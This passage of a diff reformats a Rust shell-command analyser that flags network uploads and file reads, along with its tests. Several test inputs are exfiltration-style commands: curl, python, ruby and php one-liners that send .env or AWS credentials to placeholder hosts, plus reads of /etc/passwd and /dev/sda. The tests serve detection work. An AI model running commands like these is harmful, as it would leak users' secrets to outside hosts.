                 let p = parse_opts(rest, "", &["chmod", "pathspec-from-file"], false);
                 for (k, v) in &p.opts {
                     match k.as_str() {
-                        "-A" | "--all" | "--no-ignore-removal" => {
-                            self.f.git_commit_paths.push("-A".into())
-                        }
+                        "-A" | "--all" | "--no-ignore-removal" => self.f.git_commit_paths.push("-A".into()),
                         "-u" | "--update" => self.f.git_commit_paths.push("-u".into()),
                         "--pathspec-from-file" => {
                             if let Some(v) = v {
@@ -2848,10 +2617,7 @@ impl An {
                     ],
                     false,
                 );
-                let mut nu = NetUse {
-                    tool: "git".into(),
-                    ..Default::default()
-                };
+                let mut nu = NetUse { tool: "git".into(), ..Default::default() };
                 for v in p.vals(&["--smtp-server"]) {
                     if let Some(h) = clean_host(&v.h) {
                         nu.hosts.push(h);
@@ -2867,16 +2633,8 @@ impl An {
     }
 
     fn gh(&mut self, args: &[Arg], cx: &mut Cx) {
-        let mut nu = NetUse {
-            tool: "gh".into(),
-            ..Default::default()
-        };
-        let words: Vec<&str> = args
-            .iter()
-            .map(|a| a.t.as_str())
-            .filter(|t| !t.starts_with('-'))
-            .take(2)
-            .collect();
+        let mut nu = NetUse { tool: "gh".into(), ..Default::default() };
+        let words: Vec<&str> = args.iter().map(|a| a.t.as_str()).filter(|t| !t.starts_with('-')).take(2).collect();
         let group = words.first().copied().unwrap_or("");
         let sub = words.get(1).copied().unwrap_or("");
         if group == "repo" && sub == "sync" {
@@ -2895,14 +2653,7 @@ impl An {
                 };
             let needs = matches!(
                 k,
-                "--hostname"
-                    | "--input"
-                    | "-F"
-                    | "--field"
-                    | "--body-file"
-                    | "-f"
-                    | "--env-file"
-                    | "--notes-file"
+                "--hostname" | "--input" | "-F" | "--field" | "--body-file" | "-f" | "--env-file" | "--notes-file"
             );
             if !needs {
                 continue;
@@ -2926,19 +2677,12 @@ impl An {
                     }
                 }
                 "-F" | "--body-file" | "--notes-file" => up(&mut nu, &v.t),
-                "-f" | "--env-file" if group == "secret" || group == "variable" => {
-                    up(&mut nu, &v.t)
-                }
+                "-f" | "--env-file" if group == "secret" || group == "variable" => up(&mut nu, &v.t),
                 _ => {}
             }
         }
-        if (group == "gist" && sub == "create")
-            || (group == "release" && (sub == "create" || sub == "upload"))
-        {
-            let idx = args
-                .iter()
-                .position(|a| a.t == sub)
-                .map_or(args.len(), |k| k + 1);
+        if (group == "gist" && sub == "create") || (group == "release" && (sub == "create" || sub == "upload")) {
+            let idx = args.iter().position(|a| a.t == sub).map_or(args.len(), |k| k + 1);
             let p = parse_opts(
                 &args[idx..],
                 "dftnFRp",
@@ -2955,11 +2699,7 @@ impl An {
                 ],
                 false,
             );
-            let files = if group == "gist" {
-                &p.pos[..]
-            } else {
-                p.pos.get(1..).unwrap_or(&[])
-            };
+            let files = if group == "gist" { &p.pos[..] } else { p.pos.get(1..).unwrap_or(&[]) };
             for f in files {
                 up(&mut nu, f.t.split('#').next().unwrap_or(""));
             }
@@ -2977,22 +2717,17 @@ impl An {
             _ => "",
         };
         let p = parse_opts(args, short, PKG_LONG, false);
-        let mut nu = NetUse {
-            tool: name.to_string(),
-            ..Default::default()
-        };
+        let mut nu = NetUse { tool: name.to_string(), ..Default::default() };
         for (k, v) in &p.opts {
             let Some(v) = v else { continue };
             match k.as_str() {
-                "--registry" | "--index" | "--index-url" | "--extra-index-url"
-                | "--repository-url" | "--host" | "--publish-url" | "-i" => {
+                "--registry" | "--index" | "--index-url" | "--extra-index-url" | "--repository-url" | "--host"
+                | "--publish-url" | "-i" => {
                     if let Some(h) = loose_host(&v.h) {
                         nu.hosts.push(h);
                     }
                 }
-                "-r" | "--requirement" | "-c" | "--constraint" if name == "pip" => {
-                    self.read_a(v, cx)
-                }
+                "-r" | "--requirement" | "-c" | "--constraint" if name == "pip" => self.read_a(v, cx),
                 _ => {}
             }
         }
@@ -3016,11 +2751,7 @@ impl An {
         if publish {
             let files: Vec<String> = pos.iter().skip(1).map(|a| a.t.clone()).collect();
             if files.is_empty() {
-                nu.upload_paths.push(if matches!(name, "twine" | "uv") {
-                    "dist/*".into()
-                } else {
-                    ".".into()
-                });
+                nu.upload_paths.push(if matches!(name, "twine" | "uv") { "dist/*".into() } else { ".".into() });
             }
             for f in files {
                 if !f.contains("://") {
@@ -3044,16 +2775,8 @@ impl An {
     }
 
     fn cloud(&mut self, name: &str, args: &[Arg], cx: &mut Cx) {
-        let mut nu = NetUse {
-            tool: name.to_string(),
-            ..Default::default()
-        };
-        let p = parse_opts(
-            args,
-            if name == "gsutil" { "hou" } else { "" },
-            CLOUD_LONG,
-            false,
-        );
+        let mut nu = NetUse { tool: name.to_string(), ..Default::default() };
+        let p = parse_opts(args, if name == "gsutil" { "hou" } else { "" }, CLOUD_LONG, false);
         for (k, v) in &p.opts {
             let Some(v) = v else { continue };
             match k.as_str() {
@@ -3062,9 +2785,7 @@ impl An {
                         nu.hosts.push(h);
                     }
                 }
-                "--file" | "-f" | "--source" | "-s" | "--body" | "--data-file"
-                    if name != "aws" || k == "--body" =>
-                {
+                "--file" | "-f" | "--source" | "-s" | "--body" | "--data-file" if name != "aws" || k == "--body" => {
                     up(&mut nu, &v.t)
                 }
                 _ => {}
@@ -3088,11 +2809,7 @@ impl An {
             "gcloud" if pos.first().is_some_and(|a| a.t == "storage") => ("gs://", 1),
             _ => ("", 0),
         };
-        if !scheme.is_empty()
-            && pos
-                .get(skip)
-                .is_some_and(|a| matches!(a.t.as_str(), "cp" | "mv" | "sync" | "rsync"))
-        {
+        if !scheme.is_empty() && pos.get(skip).is_some_and(|a| matches!(a.t.as_str(), "cp" | "mv" | "sync" | "rsync")) {
             let items = &pos[skip + 1..];
             if let Some((dst, srcs)) = items.split_last() {
                 let remote = |a: &Arg| a.t.contains("://");
@@ -3136,11 +2853,7 @@ impl An {
             }
             if !t.starts_with('-') || t.len() < 2 {
                 if name == "powershell" {
-                    code = args[i - 1..]
-                        .iter()
-                        .map(|a| a.t.as_str())
-                        .collect::<Vec<_>>()
-                        .join(" ");
+                    code = args[i - 1..].iter().map(|a| a.t.as_str()).collect::<Vec<_>>().join(" ");
                     has_code = true;
                 } else if (name == "deno" || name == "bun") && t == "eval" {
                     code = next;
@@ -3231,11 +2944,7 @@ impl An {
                 "powershell" => {
                     let l = t.to_ascii_lowercase();
                     if l.starts_with("-c") && "-command".starts_with(&l) {
-                        code = args[i..]
-                            .iter()
-                            .map(|a| a.t.as_str())
-                            .collect::<Vec<_>>()
-                            .join(" ");
+                        code = args[i..].iter().map(|a| a.t.as_str()).collect::<Vec<_>>().join(" ");
                         has_code = true;
                         break;
                     } else if l.len() >= 2 && ("-encodedcommand".starts_with(&l) || l == "-ec") {
@@ -3297,10 +3006,7 @@ impl An {
 
     fn httpie(&mut self, args: &[Arg], cx: &mut Cx) {
         let p = parse_opts(args, "aAops", HTTPIE_LONG, false);
-        let mut nu = NetUse {
-            tool: "http".into(),
-            ..Default::default()
-        };
+        let mut nu = NetUse { tool: "http".into(), ..Default::default() };
         for (k, v) in &p.opts {
             let Some(v) = v else { continue };
             match k.as_str() {
@@ -3314,9 +3020,8 @@ impl An {
             }
         }
         let mut pos: &[Arg] = &p.pos;
-        if pos.first().is_some_and(|a| {
-            a.t.len() <= 7 && !a.t.is_empty() && a.t.bytes().all(|b| b.is_ascii_uppercase())
-        }) {
+        if pos.first().is_some_and(|a| a.t.len() <= 7 && !a.t.is_empty() && a.t.bytes().all(|b| b.is_ascii_uppercase()))
+        {
             pos = &pos[1..];
         }
         if let Some((url, items)) = pos.split_first() {
@@ -3334,10 +3039,7 @@ impl An {
 
     fn openssl(&mut self, args: &[Arg], cx: &mut Cx) {
         let sub = args.first().map(|a| a.t.as_str()).unwrap_or("");
-        let mut nu = NetUse {
-            tool: "openssl".into(),
-            ..Default::default()
-        };
+        let mut nu = NetUse { tool: "openssl".into(), ..Default::default() };
         let mut net = matches!(sub, "s_client" | "s_time");
         let mut i = 1;
         while i < args.len() {
@@ -3349,10 +3051,8 @@ impl An {
                     let Some(v) = args.get(i).cloned() else { break };
                     i += 1;
                     match t {
-                        "-in" | "-inkey" | "-key" | "-kfile" | "-keyfile" | "-sign"
-                        | "-prverify" | "-signature" | "-msgfile" | "-certfile" => {
-                            self.read_a(&v, cx)
-                        }
+                        "-in" | "-inkey" | "-key" | "-kfile" | "-keyfile" | "-sign" | "-prverify" | "-signature"
+                        | "-msgfile" | "-certfile" => self.read_a(&v, cx),
                         "-out" | "-keylogfile" => self.write_a(&v, cx),
                         "-connect" | "-host" | "-proxy" => {
                             net = true;
@@ -3397,10 +3097,7 @@ impl An {
             "--full-generate-key",
         ]);
         if p.has(&["--send-keys", "--send-key"]) {
-            let mut nu = NetUse {
-                tool: "gpg".into(),
-                ..Default::default()
-            };
+            let mut nu = NetUse { tool: "gpg".into(), ..Default::default() };
             for v in p.vals(&["--keyserver"]) {
                 if let Some(h) = loose_host(&v.h) {
                     nu.hosts.push(h);
@@ -3418,22 +3115,13 @@ impl An {
     fn reader(&mut self, name: &str, args: &[Arg], cx: &mut Cx) {
         match name {
             "grep" | "rg" | "ag" | "ack" => {
-                let (short, long) = if name == "rg" {
-                    ("efmABCgtTjMrE", RG_LONG)
-                } else {
-                    ("efmABCdDG", GREP_LONG)
-                };
+                let (short, long) = if name == "rg" { ("efmABCgtTjMrE", RG_LONG) } else { ("efmABCdDG", GREP_LONG) };
                 let p = parse_opts(args, short, long, false);
-                let has_pat = p.has(&["-e", "-f", "--regexp", "--file"])
-                    || (name == "rg" && p.has(&["--files"]));
+                let has_pat = p.has(&["-e", "-f", "--regexp", "--file"]) || (name == "rg" && p.has(&["--files"]));
                 for v in p.vals(&["-f", "--file"]) {
                     self.read_a(&v, cx);
                 }
-                let files = if has_pat {
-                    &p.pos[..]
-                } else {
-                    p.pos.get(1..).unwrap_or(&[])
-                };
+                let files = if has_pat { &p.pos[..] } else { p.pos.get(1..).unwrap_or(&[]) };
                 for f in files {
                     self.read_a(f, cx);
                 }
@@ -3442,25 +3130,14 @@ impl An {
                 let p = parse_opts(
                     args,
                     "Ffvie",
-                    &[
-                        "field-separator",
-                        "file",
-                        "assign",
-                        "include",
-                        "source",
-                        "load",
-                    ],
+                    &["field-separator", "file", "assign", "include", "source", "load"],
                     false,
                 );
                 let has_prog = p.has(&["-f", "--file", "-e", "--source"]);
                 for v in p.vals(&["-f", "--file"]) {
                     self.read_a(&v, cx);
                 }
-                let files = if has_prog {
-                    &p.pos[..]
-                } else {
-                    p.pos.get(1..).unwrap_or(&[])
-                };
+                let files = if has_prog { &p.pos[..] } else { p.pos.get(1..).unwrap_or(&[]) };
                 for f in files {
                     if !is_assign(&f.t) {
                         self.read_a(f, cx);
@@ -3473,13 +3150,8 @@ impl An {
                 for v in p.vals(&["-f", "--file"]) {
                     self.read_a(&v, cx);
                 }
-                let in_place = p.has(&["-i", "--in-place"])
-                    || p.opts.iter().any(|(k, _)| k.starts_with("--in-place"));
-                let files = if has_script {
-                    &p.pos[..]
-                } else {
-                    p.pos.get(1..).unwrap_or(&[])
-                };
+                let in_place = p.has(&["-i", "--in-place"]) || p.opts.iter().any(|(k, _)| k.starts_with("--in-place"));
+                let files = if has_script { &p.pos[..] } else { p.pos.get(1..).unwrap_or(&[]) };
                 for f in files {
                     self.read_a(f, cx);
                     if in_place {
@@ -3533,14 +3205,7 @@ impl An {
                 let p = parse_opts(
                     args,
                     "bntPZOs",
-                    &[
-                        "temp-path",
-                        "suffixes",
-                        "password",
-                        "compression-method",
-                        "output-file",
-                        "split-size",
-                    ],
+                    &["temp-path", "suffixes", "password", "compression-method", "output-file", "split-size"],
                     false,
                 );
                 if let Some((arch, files)) = p.pos.split_first() {
@@ -3557,11 +3222,7 @@ impl An {
                 }
             }
             "7z" | "7za" | "7zz" | "7zr" => {
-                let pos: Vec<Arg> = args
-                    .iter()
-                    .filter(|a| !a.t.starts_with('-'))
-                    .cloned()
-                    .collect();
+                let pos: Vec<Arg> = args.iter().filter(|a| !a.t.starts_with('-')).cloned().collect();
                 if let Some(cmd) = pos.first() {
                     if matches!(cmd.t.as_str(), "a" | "u") {
                         if let Some(arch) = pos.get(1) {
@@ -3755,20 +3416,8 @@ fn httpie_item_file(t: &str) -> Option<&str> {
                 i += 2;
                 continue;
             }
-            b'=' => {
-                return if b.get(i + 1) == Some(&b'@') {
-                    t.get(i + 2..)
-                } else {
-                    None
-                }
-            }
-            b':' => {
-                return if t[i..].starts_with(":=@") {
-                    t.get(i + 3..)
-                } else {
-                    None
-                }
-            }
+            b'=' => return if b.get(i + 1) == Some(&b'@') { t.get(i + 2..) } else { None },
+            b':' => return if t[i..].starts_with(":=@") { t.get(i + 3..) } else { None },
             b'@' => return t.get(i + 1..),
             _ => {}
         }
@@ -3806,10 +3455,10 @@ fn plain_reader(name: &str) -> Option<&'static str> {
         "strings" => "nte",
         "cmp" => "in",
         "pr" => "hwloN",
-        "cat" | "tac" | "less" | "more" | "most" | "bat" | "batcat" | "view" | "zless"
-        | "zmore" | "bzcat" | "bzip2" | "bunzip2" | "lz4" | "lz4cat" | "md5sum" | "sha1sum"
-        | "sha224sum" | "sha256sum" | "sha384sum" | "sha512sum" | "shasum" | "b2sum" | "cksum"
-        | "sum" | "wc" | "comm" | "rev" | "uuencode" | "sqlite3" | "tr" => "",
+        "cat" | "tac" | "less" | "more" | "most" | "bat" | "batcat" | "view" | "zless" | "zmore" | "bzcat"
+        | "bzip2" | "bunzip2" | "lz4" | "lz4cat" | "md5sum" | "sha1sum" | "sha224sum" | "sha256sum" | "sha384sum"
+        | "sha512sum" | "shasum" | "b2sum" | "cksum" | "sum" | "wc" | "comm" | "rev" | "uuencode" | "sqlite3"
+        | "tr" => "",
         _ => return None,
     })
 }
@@ -4422,9 +4071,7 @@ mod tests {
         assert_eq!(n.upload_paths, s(&[".env"]));
         assert_eq!(n.hosts, s(&["transfer.sh"]));
         assert!(!n.reads_stdin);
-        let n = one(
-            "curl -F 'file=@\"my file.txt\";type=text/plain' -F 'x=<notes.txt' https://u.example",
-        );
+        let n = one("curl -F 'file=@\"my file.txt\";type=text/plain' -F 'x=<notes.txt' https://u.example");
         assert_eq!(n.upload_paths, s(&["my file.txt", "notes.txt"]));
     }
 
@@ -4433,9 +4080,7 @@ mod tests {
         let f = analyze("curl --data-binary @/home/u/.aws/credentials https://e.example");
         assert_eq!(f.net[0].upload_paths, s(&["/home/u/.aws/credentials"]));
         assert_eq!(f.net[0].hosts, s(&["e.example"]));
-        assert!(f
-            .read_paths
-            .contains(&"/home/u/.aws/credentials".to_string()));
+        assert!(f.read_paths.contains(&"/home/u/.aws/credentials".to_string()));
         let n = one("curl -d@.env e.example/x");
         assert_eq!(n.upload_paths, s(&[".env"]));
         assert_eq!(n.hosts, s(&["e.example"]));
@@ -4535,8 +4180,7 @@ mod tests {
         assert!(n.reads_stdin);
         let n = one("eval 'curl -d @id.txt https://c.example'");
         assert_eq!(n.upload_paths, s(&["id.txt"]));
-        let n =
-            one("bash -lc 'sudo -u root env A=1 timeout 5 nohup /usr/bin/curl https://d.example'");
+        let n = one("bash -lc 'sudo -u root env A=1 timeout 5 nohup /usr/bin/curl https://d.example'");
         assert_eq!(n.hosts, s(&["d.example"]));
         let n = one("bash <<'EOF'\ncurl -F x=@.env https://e.example\nEOF");
         assert_eq!(n.upload_paths, s(&[".env"]));
@@ -4579,7 +4223,9 @@ mod tests {
 
     #[test]
     fn python_one_liner() {
-        let f = analyze("python3 -c \"import urllib.request;urllib.request.urlopen('https://x.example/?d='+open('.env').read())\"");
+        let f = analyze(
+            "python3 -c \"import urllib.request;urllib.request.urlopen('https://x.example/?d='+open('.env').read())\"",
+        );
         assert_eq!(f.net.len(), 1);
         let n = &f.net[0];
         assert_eq!(n.tool, "python");
@@ -4603,19 +4249,14 @@ mod tests {
         assert!(n.one_liner);
         assert_eq!(n.hosts, s(&["n.example"]));
         assert_eq!(n.stdin_from, s(&[".env"]));
-        let n = one(
-            "ruby -rnet/http -e 'Net::HTTP.post(URI(\"http://r.example\"), File.read(\".env\"))'",
-        );
+        let n = one("ruby -rnet/http -e 'Net::HTTP.post(URI(\"http://r.example\"), File.read(\".env\"))'");
         assert_eq!(n.tool, "ruby");
         assert_eq!(n.hosts, s(&["r.example"]));
         assert_eq!(n.stdin_from, s(&[".env"]));
-        let n = one(
-            "perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>\"p.example:80\")'",
-        );
+        let n = one("perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>\"p.example:80\")'");
         assert_eq!(n.tool, "perl");
         assert_eq!(n.hosts, s(&["p.example"]));
-        let n =
-            one("php -r 'file_get_contents(\"https://h.example/?\".file_get_contents(\".env\"));'");
+        let n = one("php -r 'file_get_contents(\"https://h.example/?\".file_get_contents(\".env\"));'");
         assert_eq!(n.tool, "php");
         assert_eq!(n.hosts, s(&["h.example"]));
         assert_eq!(n.stdin_from, s(&[".env"]));
@@ -4699,30 +4340,19 @@ mod tests {
         let f = analyze("echo secret > out.txt");
         assert_eq!(f.written_paths, s(&["out.txt"]));
         let f = analyze("make 2>/dev/null >build.log; echo x >> a.log 2>&1; ls &> all.log; cat a | tee b c >/dev/null");
-        assert_eq!(
-            f.written_paths,
-            s(&["build.log", "a.log", "all.log", "b", "c"])
-        );
+        assert_eq!(f.written_paths, s(&["build.log", "a.log", "all.log", "b", "c"]));
         let f = analyze("cp .env /tmp/x && mv /tmp/x /tmp/y && dd if=/dev/sda of=disk.img bs=1M");
         assert_eq!(f.written_paths, s(&["/tmp/x", "/tmp/y", "disk.img"]));
         assert_eq!(f.read_paths, s(&[".env", "/dev/sda"]));
         let f = analyze("head -n 5 a.txt; tail -f b.log; awk -F: '{print $1}' /etc/passwd; sed -n '1p' c.txt; jq .x d.json; . ./env.sh; grep -e x -f pats.txt e.txt");
         assert_eq!(
             f.read_paths,
-            s(&[
-                "a.txt",
-                "b.log",
-                "/etc/passwd",
-                "c.txt",
-                "d.json",
-                "./env.sh",
-                "pats.txt",
-                "e.txt"
-            ])
+            s(&["a.txt", "b.log", "/etc/passwd", "c.txt", "d.json", "./env.sh", "pats.txt", "e.txt"])
         );
         let f = analyze("while read l; do echo $l; done < .env");
         assert_eq!(f.read_paths, s(&[".env"]));
-        let f = analyze("openssl enc -aes-256-cbc -in secret.key -out secret.enc; gpg -o x.gpg -c y.txt; xxd k.bin k.hex");
+        let f =
+            analyze("openssl enc -aes-256-cbc -in secret.key -out secret.enc; gpg -o x.gpg -c y.txt; xxd k.bin k.hex");
         assert_eq!(f.read_paths, s(&["secret.key", "y.txt", "k.bin"]));
         assert_eq!(f.written_paths, s(&["secret.enc", "x.gpg", "k.hex"]));
         let f = analyze("zip -r out.zip .env src; tar -xzf a.tgz -C /tmp");
@@ -4740,7 +4370,8 @@ mod tests {
         let n = one("curl https://api.github.com/user -H \"Authorization: token $GH\"");
         assert_eq!(n.hosts, s(&["api.github.com"]));
         assert!(n.upload_paths.is_empty());
-        let n = one("curl -u user:pass@word -x http://proxy.example:8080 'https://User:Pw@API.Example.com:8443/p?q=1#f'");
+        let n =
+            one("curl -u user:pass@word -x http://proxy.example:8080 'https://User:Pw@API.Example.com:8443/p?q=1#f'");
         assert_eq!(n.hosts, s(&["proxy.example", "api.example.com"]));
         let n = one("curl http://[::1]:8080/ https://$HOST/x");
         assert_eq!(n.hosts, s(&["::1", "*"]));
@@ -4763,16 +4394,8 @@ mod tests {
         ] {
             assert!(is_loopback(h), "{h}");
         }
-        for h in [
-            "host.docker.internal",
-            "example.com",
-            "10.0.0.1",
-            "128.0.0.1",
-            "localhost.evil.com",
-            "::2",
-            "*",
-            "",
-        ] {
+        for h in ["host.docker.internal", "example.com", "10.0.0.1", "128.0.0.1", "localhost.evil.com", "::2", "*", ""]
+        {
             assert!(!is_loopback(h), "{h}");
         }
     }
@@ -4852,57 +4475,21 @@ mod tests {
 
     #[test]
     fn tokenizer_edge_cases() {
-        assert_eq!(
-            simple_commands("echo 'a b' \"c $d\" e\\ f"),
-            vec![s(&["echo", "a b", "c $d", "e f"])]
-        );
-        assert_eq!(
-            simple_commands("echo $'a\\tb\\x41\\u00e9' \"q\\\"x\""),
-            vec![s(&["echo", "a\tbAé", "q\"x"])]
-        );
+        assert_eq!(simple_commands("echo 'a b' \"c $d\" e\\ f"), vec![s(&["echo", "a b", "c $d", "e f"])]);
+        assert_eq!(simple_commands("echo $'a\\tb\\x41\\u00e9' \"q\\\"x\""), vec![s(&["echo", "a\tbAé", "q\"x"])]);
         assert_eq!(
             simple_commands("a && b || c; d | e |& f & g\nh"),
-            vec![
-                s(&["a"]),
-                s(&["b"]),
-                s(&["c"]),
-                s(&["d"]),
-                s(&["e"]),
-                s(&["f"]),
-                s(&["g"]),
-                s(&["h"])
-            ]
+            vec![s(&["a"]), s(&["b"]), s(&["c"]), s(&["d"]), s(&["e"]), s(&["f"]), s(&["g"]), s(&["h"])]
         );
         assert_eq!(simple_commands("echo a\\\nb"), vec![s(&["echo", "ab"])]);
-        assert_eq!(
-            simple_commands("X=1 cmd arg # comment"),
-            vec![s(&["cmd", "arg"])]
-        );
+        assert_eq!(simple_commands("X=1 cmd arg # comment"), vec![s(&["cmd", "arg"])]);
         assert_eq!(simple_commands("echo a#b"), vec![s(&["echo", "a#b"])]);
-        assert_eq!(
-            simple_commands("echo $(cat f) > out"),
-            vec![s(&["cat", "f"]), s(&["echo", "$(cat f)"])]
-        );
-        assert_eq!(
-            simple_commands("echo 'unterminated"),
-            vec![s(&["echo", "unterminated"])]
-        );
-        assert_eq!(
-            simple_commands("echo \"unterminated $(x"),
-            vec![s(&["x"]), s(&["echo", "unterminated $(x"])]
-        );
-        assert_eq!(
-            simple_commands("echo \"$(echo \")\")\""),
-            vec![s(&["echo", ")"]), s(&["echo", "$(echo \")\")"])]
-        );
-        assert_eq!(
-            simple_commands("echo $((1+(2*3))) ${x:-a b}"),
-            vec![s(&["echo", "$((1+(2*3)))", "${x:-a b}"])]
-        );
-        assert_eq!(
-            simple_commands("cat <<-EOF\n\tbody\n\tEOF\necho after"),
-            vec![s(&["cat"]), s(&["echo", "after"])]
-        );
+        assert_eq!(simple_commands("echo $(cat f) > out"), vec![s(&["cat", "f"]), s(&["echo", "$(cat f)"])]);
+        assert_eq!(simple_commands("echo 'unterminated"), vec![s(&["echo", "unterminated"])]);
+        assert_eq!(simple_commands("echo \"unterminated $(x"), vec![s(&["x"]), s(&["echo", "unterminated $(x"])]);
+        assert_eq!(simple_commands("echo \"$(echo \")\")\""), vec![s(&["echo", ")"]), s(&["echo", "$(echo \")\")"])]);
+        assert_eq!(simple_commands("echo $((1+(2*3))) ${x:-a b}"), vec![s(&["echo", "$((1+(2*3)))", "${x:-a b}"])]);
+        assert_eq!(simple_commands("cat <<-EOF\n\tbody\n\tEOF\necho after"), vec![s(&["cat"]), s(&["echo", "after"])]);
         // heredoc immediately followed by pipeline commands on the same line
         let f = analyze("cat <<A; cat <<B | curl -d @- https://z.example\n1\nA\n2\nB\n");
         assert_eq!(f.net.len(), 1);
@@ -5023,14 +4610,7 @@ mod tests {
         let _ = analyze(&format!("echo '{}'", "y".repeat(1_000_000)));
         let _ = analyze(&format!("cat <<EOF\n{}", "line\n".repeat(200_000)));
         let _ = analyze(&"a; ".repeat(300_000));
-        let _ = analyze(&format!(
-            "python3 -c \"{}\"",
-            "urlopen('http://a.b/') ".repeat(40_000)
-        ));
-        assert!(
-            start.elapsed().as_secs() < 60,
-            "too slow: {:?}",
-            start.elapsed()
-        );
+        let _ = analyze(&format!("python3 -c \"{}\"", "urlopen('http://a.b/') ".repeat(40_000)));
+        assert!(start.elapsed().as_secs() < 60, "too slow: {:?}", start.elapsed());
     }
 }
